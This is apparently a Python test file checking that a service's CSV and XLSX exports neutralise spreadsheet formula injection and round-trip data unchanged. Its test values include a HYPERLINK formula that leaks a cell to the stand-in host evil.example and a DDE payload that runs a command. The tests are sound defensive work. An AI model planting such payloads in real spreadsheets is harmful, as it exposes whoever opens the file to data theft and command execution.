"""Spreadsheet formula injection (issue 18, defect 6): exported text never starts a
formula, numbers stay numbers, and an exported file imports back unchanged."""

import csv
import io
from decimal import Decimal

import httpx
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from services.clients.accounts.spreadsheet import (
    FORMULA_STARTS,
    csv_chunk,
    neutralised_cell,
    restored_cell,
)
from tests.clients.conftest import ACCOUNTS, create_account

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_restores_exactly(text: str) -> None:
    written = neutralised_cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert restored_cell(written) == text


@given(st.text(alphabet="=+-@\t\r'x", min_size=1))
def test_formula_starts_and_quotes_round_trip(text: str) -> None:
    written = neutralised_cell(text)
    assert written[0] not in FORMULA_STARTS
    assert restored_cell(written) == text


def test_numbers_stay_numbers_and_a_formula_cell_in_csv_is_quoted_text() -> None:
    assert neutralised_cell(Decimal("-1250.00")) == Decimal("-1250.00")
    assert neutralised_cell(-3) == -3
    line = csv_chunk([["=1+1", "-2", Decimal("-5.50"), "@SUM(A1)", "\tx", "普通"]])
    assert next(csv.reader(io.StringIO(line.decode()))) == [
        "'=1+1", "'-2", "-5.50", "'@SUM(A1)", "'\tx", "普通",
    ]  # fmt: skip


async def test_account_exports_write_formulas_as_text_and_import_back_unchanged(
    clients: httpx.AsyncClient,
) -> None:
    account = await create_account(clients, legal_name=PAYLOAD, tags=["+86重点", "-风险"])
    params = {"q": "HYPERLINK"}

    exported = await clients.get(f"{ACCOUNTS}/export", params={"lang": "en", **params})
    assert exported.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert row["legal_name"] == "'" + PAYLOAD
    assert row["tags"] == "'+86重点;-风险"

    workbook = await clients.get(
        f"{ACCOUNTS}/export", params={"lang": "en", **params, "format": "xlsx"}
    )
    sheet = load_workbook(io.BytesIO(workbook.content)).worksheets[0]
    header, cells = [[cell for cell in r] for r in sheet.iter_rows(min_row=1, max_row=2)]
    by_column = {h.value: c for h, c in zip(header, cells, strict=True)}
    assert by_column["legal_name"].data_type == "s"
    assert by_column["legal_name"].value == "'" + PAYLOAD
    assert by_column["id"].data_type == "n"
    assert by_column["id"].value == account["id"]

    for content, media_type in (
        (exported.content, "text/csv"),
        (workbook.content, workbook.headers["content-type"]),
    ):
        again = await clients.post(
            f"{ACCOUNTS}/import", content=content, headers={"Content-Type": media_type}
        )
        assert again.status_code == 200, again.text
        assert again.json() == {
            "rows": 1,
            "created": 0,
            "updated": 0,
            "unchanged": 1,
            "disputes": [],
        }
    stored = (await clients.get(f"{ACCOUNTS}/{account['id']}")).json()
    assert stored["legal_name"] == PAYLOAD
    assert stored["tags"] == ["+86重点", "-风险"]


async def test_other_csv_exports_neutralise_text(clients: httpx.AsyncClient) -> None:
    account = await create_account(clients)
    created = await clients.post(
        f"{ACCOUNTS}/{account['id']}/tickets",
        json={
            "kind": "request",
            "severity": "low",
            "channel": "email",
            "title": "=cmd|' /C calc'!A0",
        },
    )
    assert created.status_code == 201, created.text
    exported = await clients.get(
        "/v1/clients/tickets/export", params={"lang": "en", "account_id": account["id"]}
    )
    assert exported.status_code == 200, exported.text
    [row] = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert row["title"] == "'=cmd|' /C calc'!A0"
